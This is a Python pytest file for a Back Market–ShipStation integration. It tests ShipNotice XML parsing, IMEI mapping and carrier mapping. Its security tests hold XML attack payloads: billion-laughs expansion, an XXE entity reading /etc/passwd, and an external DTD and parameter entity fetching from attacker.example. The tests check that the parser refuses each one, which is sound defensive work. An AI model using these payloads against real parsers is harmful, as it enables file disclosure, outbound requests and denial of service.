"""Every field of the ``<ShipNotice>`` reference (§1.4), XML attacks, and the notification built."""

from __future__ import annotations

from datetime import date, datetime, timezone
from decimal import Decimal

import pytest
from customstore_support import BAD_IMEI, IMEI_A, IMEI_B, StoreHarness
from hypothesis import given, settings
from hypothesis import strategies as st

from backmarket_shipstation.customstore import NoticeXMLError, parse_ship_notice, to_notification
from backmarket_shipstation.errors import InvalidIMEIError, MappingError, MissingIdentifierError
from backmarket_shipstation.mapping import IdentifiableLine, to_shipment_notification
from backmarket_shipstation.shipstation.models import Address, OrderItem, OrderStatus, Shipment
from backmarket_shipstation.shipstation.models import Order as ShipStationOrder

# The reference's example notice, with our values (SS-CS-REF notify).
NOTICE = b"""<?xml version="1.0" encoding="utf-8"?>
<ShipNotice>
  <OrderNumber>41234567</OrderNumber>
  <OrderID>backmarket-41234567</OrderID>
  <CustomerCode>c.martin@relay.example</CustomerCode>
  <CustomerNotes><![CDATA[Leave at the door]]></CustomerNotes>
  <InternalNotes><![CDATA[[Back Market] Backship: no
IP13-128-MID-EXC: IMEI 490154203237518
CASE-13: S/N SN-CASE-0001]]></InternalNotes>
  <NotesToCustomer><![CDATA[Thanks!]]></NotesToCustomer>
  <NotifyCustomer>false</NotifyCustomer>
  <LabelCreateDate>03/11/2025 09:41</LabelCreateDate>
  <ShipDate>03/11/2025</ShipDate>
  <Carrier>UPS</Carrier>
  <Service>UPS Ground</Service>
  <TrackingNumber>1Z999AA10123456784</TrackingNumber>
  <ShippingCost>7.35</ShippingCost>
  <CustomField1>eu</CustomField1>
  <CustomField2>2025-03-12</CustomField2>
  <CustomField3></CustomField3>
  <Recipient>
    <Name>Camille Martin</Name>
    <Company>Atelier</Company>
    <Address1>12 rue des Lilas</Address1>
    <Address2>Bat. B</Address2>
    <City>Lyon</City>
    <State></State>
    <PostalCode>69003</PostalCode>
    <Country>FR</Country>
  </Recipient>
  <Items>
    <Item>
      <LineItemID>55501234</LineItemID>
      <SKU>IP13-128-MID-EXC</SKU>
      <Name>iPhone 13</Name>
      <Quantity>1</Quantity>
      <UPC>194252707197</UPC>
    </Item>
  </Items>
</ShipNotice>"""

LINES = (
    IdentifiableLine(key="55501234", sku="IP13-128-MID-EXC", quantity=1, name="iPhone 13"),
    IdentifiableLine(key="55501235", sku="CASE-13", quantity=1, name="Case"),
)


def test_every_field_of_the_notice() -> None:
    notice = parse_ship_notice(NOTICE, {})
    assert notice.order_number == "41234567"
    assert notice.order_id == "backmarket-41234567"
    assert notice.customer_code == "c.martin@relay.example"
    assert notice.customer_notes == "Leave at the door"
    assert notice.internal_notes is not None
    assert "IMEI 490154203237518" in notice.internal_notes
    assert notice.notes_to_customer == "Thanks!"
    assert notice.notify_customer is False
    assert notice.label_create_date == datetime(2025, 3, 11, 9, 41, tzinfo=timezone.utc)
    assert notice.ship_date == date(2025, 3, 11)
    assert notice.carrier == "UPS"
    assert notice.service == "UPS Ground"
    assert notice.tracking_number == "1Z999AA10123456784"
    assert notice.shipping_cost == Decimal("7.35")
    assert notice.custom_fields == ("eu", "2025-03-12", None)
    assert notice.recipient == Address(
        name="Camille Martin",
        company="Atelier",
        street1="12 rue des Lilas",
        street2="Bat. B",
        city="Lyon",
        postal_code="69003",
        country="FR",
    )
    (item,) = notice.items
    assert (item.line_item_id, item.sku, item.name, item.quantity, item.upc) == (
        "55501234",
        "IP13-128-MID-EXC",
        "iPhone 13",
        1,
        "194252707197",
    )
    assert notice.from_body


def test_an_empty_body_falls_back_on_the_query_string() -> None:
    query = {
        "action": "shipnotify",
        "order_number": "41234567",
        "carrier": "USPS",
        "service": "",
        "tracking_number": "9400 1000 0000 0000 0000 00",
    }
    notice = parse_ship_notice(b"", query)
    assert notice.order_number == "41234567"
    assert notice.carrier == "USPS"
    assert notice.service is None
    assert notice.tracking_number == "9400100000000000000000"
    assert notice.items == ()
    assert not notice.from_body


def test_a_notice_without_tracking_number_is_refused() -> None:
    with pytest.raises(MappingError, match="tracking number"):
        parse_ship_notice(b"", {"order_number": "41234567"})
    with pytest.raises(MappingError, match="OrderNumber"):
        parse_ship_notice(b"", {"tracking_number": "1Z"})


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<ShipNotice><OrderNumber>&lol9;</OrderNumber></ShipNotice>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE ShipNotice [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<ShipNotice><OrderNumber>1</OrderNumber><InternalNotes>&xxe;</InternalNotes></ShipNotice>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE ShipNotice SYSTEM "http://attacker.example/evil.dtd">
<ShipNotice><OrderNumber>1</OrderNumber></ShipNotice>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE ShipNotice [<!ENTITY % remote SYSTEM "http://attacker.example/x"> %remote;]>
<ShipNotice/>"""


@pytest.mark.parametrize(
    "body",
    [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY],
    ids=["entity-expansion", "external-entity", "external-dtd", "parameter-entity"],
)
def test_entity_and_dtd_attacks_are_refused(body: bytes) -> None:
    with pytest.raises(NoticeXMLError, match="unsafe XML refused"):
        parse_ship_notice(body, {"tracking_number": "1Z"})


def test_deep_nesting_and_element_floods_are_refused() -> None:
    deep = b"<ShipNotice>" + b"<a>" * 100 + b"</a>" * 100 + b"</ShipNotice>"
    with pytest.raises(NoticeXMLError, match="nested deeper"):
        parse_ship_notice(deep, {})
    flood = b"<ShipNotice>" + b"<x/>" * 30_000 + b"</ShipNotice>"
    with pytest.raises(NoticeXMLError, match="more than"):
        parse_ship_notice(flood, {})


@pytest.mark.parametrize(
    "body",
    [b"<ShipNotice><OrderNumber>1</ShipNotice>", b"<Orders/>", b"not xml at all"],
)
def test_malformed_or_foreign_xml_is_refused(body: bytes) -> None:
    with pytest.raises(NoticeXMLError):
        parse_ship_notice(body, {"tracking_number": "1Z", "order_number": "1"})


def test_the_notification_is_the_one_the_v1_path_builds() -> None:
    notice = parse_ship_notice(NOTICE.replace(b"CASE-13: S/N SN-CASE-0001", b""), {})
    line = LINES[:1]
    from_notice = to_notification(notice, line, currency="EUR")
    ss_order = ShipStationOrder(
        order_id=9001,
        order_number="41234567",
        order_date=datetime(2025, 3, 10, tzinfo=timezone.utc),
        order_status=OrderStatus.SHIPPED,
        bill_to=Address(),
        ship_to=Address(),
        internal_notes=notice.internal_notes,
        items=(
            OrderItem(
                line_item_key="55501234", sku="IP13-128-MID-EXC", name="iPhone 13", quantity=1
            ),
        ),
    )
    label = Shipment(
        shipment_id=1,
        order_id=9001,
        tracking_number="1Z999AA10123456784",
        carrier_code="ups",
        service_code="ups_ground",
        shipment_cost=Decimal("7.35"),
        ship_date=date(2025, 3, 11),
        create_date=datetime(2025, 3, 11, 9, 41, tzinfo=timezone.utc),
    )
    from_v1 = to_shipment_notification(ss_order, label, currency="EUR")
    for field in ("order_id", "status", "tracking_number", "tracking_url", "shipper",
                  "carrier_fee", "currency", "ship_date", "identifiers"):  # fmt: skip
        assert getattr(from_notice, field) == getattr(from_v1, field), field
    assert from_notice.shipper == "UPS Ground"
    assert from_notice.identifiers is not None
    assert from_notice.identifiers[0].imei == IMEI_A


def test_a_split_notice_takes_only_its_own_lines() -> None:
    notes = f"IP13-128-MID-EXC: IMEI {IMEI_A}\nIP14-BLK: IMEI {IMEI_B}"
    lines = (
        LINES[0],
        IdentifiableLine(key="55501236", sku="IP14-BLK", quantity=1, name="iPhone 14"),
    )
    second = NOTICE.replace(b"55501234", b"55501236").replace(
        b"<SKU>IP13-128-MID-EXC</SKU>", b"<SKU>IP14-BLK</SKU>"
    )
    second = second.replace(
        b"IP13-128-MID-EXC: IMEI 490154203237518\nCASE-13: S/N SN-CASE-0001", notes.encode()
    )
    notification = to_notification(parse_ship_notice(second, {}), lines)
    assert [(i.orderline_id, i.imei) for i in notification.identifiers or ()] == [
        (55501236, IMEI_B)
    ]


def test_missing_or_invalid_imei_is_a_typed_error_naming_the_order() -> None:
    without = NOTICE.replace(b"IP13-128-MID-EXC: IMEI 490154203237518", b"").replace(
        b"CASE-13: S/N SN-CASE-0001", b""
    )
    with pytest.raises(MissingIdentifierError) as missing:
        to_notification(parse_ship_notice(without, {}), LINES[:1])
    assert str(missing.value.order_id) == "41234567"
    invalid = NOTICE.replace(IMEI_A.encode(), BAD_IMEI.encode())
    with pytest.raises(InvalidIMEIError):
        to_notification(parse_ship_notice(invalid, {}), LINES)


@pytest.mark.parametrize(
    ("carrier", "shipper"),
    [("RoyalMail", "Royal Mail"), ("FedEx", "FedEx"), ("DHLGlobalMail", "DHL"), ("Other", "Other")],
)
def test_custom_store_carriers_map_to_back_market_shippers(carrier: str, shipper: str) -> None:
    notice = parse_ship_notice(
        b"", {"order_number": "1", "tracking_number": "X1", "carrier": carrier}
    )
    notification = to_notification(notice, (), requires_identifier=lambda _: False)
    assert notification.shipper == shipper


@settings(max_examples=300, deadline=None, derandomize=True)
@given(
    body=st.one_of(
        st.binary(max_size=400),
        st.text(max_size=400).map(lambda t: f"<ShipNotice>{t}</ShipNotice>".encode()),
        st.builds(
            lambda number, tracking, notes: (
                f"<ShipNotice><OrderNumber>{number}</OrderNumber>"
                f"<TrackingNumber>{tracking}</TrackingNumber>"
                f"<InternalNotes><![CDATA[{notes}]]></InternalNotes>"
                "<Items><Item><LineItemID>55501234</LineItemID></Item></Items></ShipNotice>"
            ).encode(),
            st.from_regex(r"[0-9]{1,9}", fullmatch=True),
            st.from_regex(r"[A-Z0-9]{0,20}", fullmatch=True),
            st.text(max_size=200).filter(lambda t: "]]>" not in t),
        ),
    )
)
def test_any_body_gives_a_notice_or_one_of_the_sdks_errors(body: bytes) -> None:
    try:
        notice = parse_ship_notice(body, {"order_number": "41234567", "tracking_number": "1Z"})
        to_notification(notice, LINES)
    except (NoticeXMLError, MappingError):
        pass


def test_shipstation_encoded_dates_are_read(harness: StoreHarness) -> None:
    import base64

    from customstore_support import PASSWORD, USERNAME, wsgi_environ

    harness.running.refresh_all()
    token = base64.b64encode(f"{USERNAME}:{PASSWORD}".encode()).decode()
    seen: list[str] = []
    body = b"".join(
        harness.running.app(
            wsgi_environ(
                # As SS-CS-GET shows them: "01%2f23%2f2012+17%3a28".
                query="action=export&start_date=01%2f01%2f2026+00%3a00"
                "&end_date=12%2f31%2f2026+23%3a59&page=1",
                headers={"Authorization": f"Basic {token}"},
            ),
            lambda status, headers: seen.append(status),
        )
    )
    assert seen == ["200 OK"]
    assert body.count(b"<Order>") == len(harness.exported_orders()) > 0
